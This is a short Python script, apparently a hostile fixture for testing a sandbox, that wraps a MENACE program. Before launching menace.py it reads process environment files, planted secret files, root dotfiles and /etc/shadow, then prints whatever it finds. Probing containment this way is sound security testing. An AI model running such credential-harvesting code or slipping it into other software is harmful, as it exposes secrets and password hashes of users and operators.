"""MENACE that first prints whatever secrets it can read: environments, planted files, home."""

import runpy
import sys


def attack():
    """Print every environment and secret file it can read, on stdout and stderr."""
    import glob
    import os
    found = []
    for path in ["/proc/self/environ", f"/proc/{os.getppid()}/environ",
                 *glob.glob("/proc/*/environ"), "/tmp/menace-hostile-secret",
                 os.path.expanduser("~/menace-hostile-secret"),
                 "/root/menace-hostile-secret", *glob.glob("/root/.*"), "/etc/shadow"]:
        try:
            with open(path, "rb") as source:
                found.append(source.read(4096).decode("latin-1").replace("\0", " "))
        except OSError:
            pass
    text = " | ".join(found).replace("\n", " ") or "nothing"
    print("found:", text, flush=True)
    print("found:", text, file=sys.stderr, flush=True)


attack()
runpy.run_path("menace.py", run_name="__main__")
